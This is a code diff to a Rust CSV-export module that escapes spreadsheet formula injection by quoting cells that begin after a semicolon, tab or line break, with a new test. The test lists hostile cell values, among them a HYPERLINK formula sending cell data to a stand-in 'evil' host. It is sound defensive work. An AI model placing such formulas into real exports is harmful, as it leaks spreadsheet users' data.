@@ -9,10 +9,21 @@ use crate::text::harmless;
 const FORMULA: [char; 10] = ['=', '+', '-', '@', '\t', '\n', '＝', '＋', '－', '＠'];
 
 /// Returns the text of a cell. Keys, errors and reasons come from outside: a text that a
-/// spreadsheet would run gets a `'` in front, which it shows and does not run.
+/// spreadsheet would run gets a `'` in front, which it shows and does not run. Where lists have
+/// semicolons, spreadsheets begin a cell after each one, and in the next line.
 pub(super) fn cell(text: &str) -> String {
     let text = harmless(text);
-    if text.starts_with(FORMULA) { format!("'{text}") } else { text }
+    let mut shown = String::with_capacity(text.len() + 1);
+    let mut begins = true;
+    for c in text.chars() {
+        if begins && FORMULA.contains(&c) {
+            shown.push('\'');
+        }
+        shown.push(c);
+        // A quote inside a cell may be the first character of what such a program takes for one.
+        begins = matches!(c, ';' | '\t' | '\n') || (begins && c == '"');
+    }
+    shown
 }
 
 /// Returns rows as lines that end with CR and LF. A cell with a comma, a quote or a line break is
@@ -55,6 +66,34 @@ mod tests {
         }
         assert_eq!(cell("order-7"), "order-7");
         assert_eq!(cell("a=b"), "a=b");
+    }
+
+    /// Goal: no cell is a formula where the separator is a semicolon or a tab. Oracle: the first
+    /// character of each cell, as a reader with that separator returns it.
+    #[test]
+    fn no_cell_is_a_formula_with_another_separator() {
+        let hostile = [
+            "x;=HYPERLINK(\"http://evil\"&A1)",
+            "x;\"=1\"",
+            "x\t+1",
+            "a,\"b\n@SUM(A1)",
+            ";;-1",
+            "\";=1",
+            "x;＝1",
+        ];
+        let text = rows(hostile.iter().map(|text| vec![String::from("x"), (*text).to_owned()]));
+        for separator in *b";\t" {
+            let mut reader = csv::ReaderBuilder::new();
+            let reader = reader.has_headers(false).flexible(true).delimiter(separator);
+            let mut reader = reader.from_reader(text.as_bytes());
+            let cells: Vec<String> = reader
+                .records()
+                .flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
+                .collect();
+            assert!(cells.len() > hostile.len(), "{cells:?}");
+            assert!(!cells.iter().any(|cell| cell.starts_with(FORMULA)), "{cells:?}");
+        }
+        assert_eq!(cell("a; b;c"), "a; b;c");
     }
 
     #[test]
